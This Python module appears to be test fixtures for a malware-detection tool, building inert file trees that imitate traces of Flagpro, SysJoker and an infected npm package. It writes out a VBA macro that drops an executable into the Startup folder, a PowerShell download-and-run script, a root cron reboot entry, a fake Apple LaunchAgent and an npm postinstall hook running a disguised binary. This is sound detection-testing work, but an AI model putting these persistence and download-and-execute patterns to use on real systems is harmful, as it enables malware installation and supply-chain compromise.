"""Inert Windows, macOS and Linux roots with the traces of Flagpro, SysJoker and an infected npm package.

`names` are chosen by the caller, so that a test can rename everything. Programs do nothing.
"""

from __future__ import annotations

import json
from dataclasses import dataclass

from hinomi.detect.inert import elf, macho, pe

Tree = dict[str, tuple[bytes, int]]


@dataclass(frozen=True)
class Names:
    """What an attacker may rename at will."""

    program: str
    folder: str
    label: str
    package: str


PUBLISHED = Names("igfxCUIService", "SystemData", "com.apple.update", "types-config")
RENAMED = (
    Names("mediahelper", "NetCache", "com.apple.refreshd", "tiny-pad"),
    Names("printq", "Fonts.Local", "com.apple.mdhelper", "leftwing"),
    Names("sensorhub", "Telemetry2", "com.apple.xpc.indexer", "colour-util"),
)
_STARTUP = "AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup"


def windows_startup(names: Names, workbook: bytes) -> Tree:
    """A workbook whose macro writes into the Startup folder, and what it wrote."""
    return {
        f"/Users/ann/Downloads/{names.package}.xlsm": (workbook, 0o644),
        f"/Users/ann/{_STARTUP}/{names.program}.exe": (pe(["GET", "cmd.exe /c "]), 0o644),
        "/Windows/System32/config/placeholder": (b"", 0o644),
        "/Windows/System32/dwm.exe": (pe(["dwm"]), 0o644),
    }


def startup_macro() -> str:
    """Return VBA that would write bytes into the Startup folder when the workbook opens."""
    return (
        "Private Sub Workbook_Open()\r\n"
        '  Dim p As String: p = Environ("APPDATA") & "\\Microsoft\\Windows\\Start Menu\\Programs\\Startup"\r\n'
        '  p = p & "\\viewer.exe"\r\n'
        '  Open p For Binary As #1\r\n  Put #1, , CStr(Range("A1").Value)\r\n  Close #1\r\nEnd Sub\r\n'
    )


def windows_backdoor(names: Names) -> Tree:
    """A program below ProgramData, its encoded data under a library's name, and the script that fetched it."""
    folder = f"/ProgramData/{names.folder}"
    zipped = f"C:\\ProgramData\\{names.folder}\\x.zip"
    script = (
        f"Invoke-WebRequest -Uri 'http://cdn.example/x.zip' -OutFile '{zipped}'\r\n"
        f"Expand-Archive -LiteralPath '{zipped}' -DestinationPath 'C:\\ProgramData\\{names.folder}'\r\n"
        f"Start-Sleep -Seconds 95\r\nRemove-Item '{zipped}'\r\n"
        f"Start-Process 'C:\\ProgramData\\{names.folder}\\{names.program}.exe'\r\n"
    )
    return {
        f"{folder}/{names.program}.exe": (pe(["token="]), 0o644),
        f"{folder}/{names.package}.dll": (b"eyJzZXJpYWwiOiJYWFhYIiwidXNlciI6ImFubiJ9" * 4, 0o644),
        f"/Users/ann/AppData/Local/Temp/{names.package}.ps1": (script.encode(), 0o644),
        "/Windows/System32/kernel32.dll": (pe(["k"], dll=True), 0o644),
    }


def linux_backdoor(names: Names) -> Tree:
    """A program in a hidden folder at the root of the disk, started by cron at reboot."""
    program = f"/.{names.folder}/Services/{names.program}"
    return {
        "/etc/passwd": (b"root:x:0:0:root:/root:/bin/bash\n", 0o644),
        "/etc/shadow": (b"root:*:19000:0:99999:7:::\n", 0o600),
        "/var/spool/cron/crontabs/root": (f"@reboot ({program})\n".encode(), 0o600),
        program: (elf(["token=", "/proc/self/exe"], imports=["system", "socket", "connect"]), 0o755),
    }


def macos_backdoor(names: Names) -> Tree:
    """An agent that poses as Apple's and starts a program of its own folder."""
    program = f"/Library/{names.folder}/{names.program}"
    plist = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<plist version="1.0"><dict>'
        f"<key>Label</key><string>{names.label}</string><key>ProgramArguments</key><array><string>{program}</string></array>"
        "<key>RunAtLoad</key><true/></dict></plist>\n"
    )
    return {
        f"/Library/LaunchAgents/{names.label}.plist": (plist.encode(), 0o644),
        program: (macho(["token="], fat=True), 0o755),
        "/System/Library/CoreServices/SystemVersion.plist": (b"<plist/>", 0o644),
    }


def npm_package(names: Names) -> Tree:
    """A package whose install script starts a program that says it is TypeScript."""
    folder = f"/srv/app/node_modules/{names.package}"
    manifest = {
        "name": names.package, "version": "1.0.3",
        "scripts": {"postinstall": f"chmod +x ./{names.program}.ts && (./{names.program}.ts &)"},
    }  # fmt: skip
    return {
        f"{folder}/package.json": (json.dumps(manifest).encode(), 0o644),
        f"{folder}/{names.program}.ts": (macho(["token="], fat=True), 0o644),
        f"{folder}/index.js": (b"module.exports = {};\n", 0o644),
        "/etc/passwd": (b"root:x:0:0:root:/root:/bin/bash\n", 0o644),
    }
